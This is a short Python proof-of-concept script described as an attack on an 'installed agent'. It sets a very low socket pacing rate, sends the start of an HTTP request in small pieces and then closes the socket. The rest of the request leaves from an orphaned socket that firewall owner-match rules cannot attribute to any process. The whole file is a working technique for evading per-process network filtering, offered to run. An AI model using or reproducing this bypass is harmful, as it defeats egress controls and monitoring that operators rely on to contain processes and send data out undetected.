#!/usr/bin/env python3
"""A child's way to send the rest of an opening after she closed its socket (the attack on the
installed agent, 2026-12-01): her pacing rate cut to 10 bytes a second, the start of an HTTP
request naming REAL goes in small segments, judged (the flow pending: a head not all there), then
the rest is written and the socket closed. TCP sends the rest later, from a socket no
process holds, which no owner match finds. Run as the child.

  orphan-paced.py ADDRESS PORT REAL

Prints "closed" once the rest has had time to leave; the server's own log tells what it got.
"""
import socket
import sys
import time

address, port, real = sys.argv[1], int(sys.argv[2]), sys.argv[3]
SO_MAX_PACING_RATE = 47
family = socket.AF_INET6 if ":" in address else socket.AF_INET
head = b"GET / HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n" % real.encode()
sock = socket.socket(family, socket.SOCK_STREAM)
sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
sock.settimeout(8)
sock.connect((address, port))
# Her pacing rate first: TCP paces after its first ten segments (sch_fq's rule, which TCP's own
# pacing keeps), so the start goes in sixteen small pieces, the head's first 32 bytes (a name not
# all there yet: pending), and the rest, written last, leaves after she closed the socket.
sock.setsockopt(socket.SOL_SOCKET, SO_MAX_PACING_RATE, 10)
for piece in range(16):
    sock.send(head[piece * 2 : piece * 2 + 2])
    time.sleep(0.02)
time.sleep(0.1)
sock.send(head[32:])
sock.close()
time.sleep(3)
print("closed")
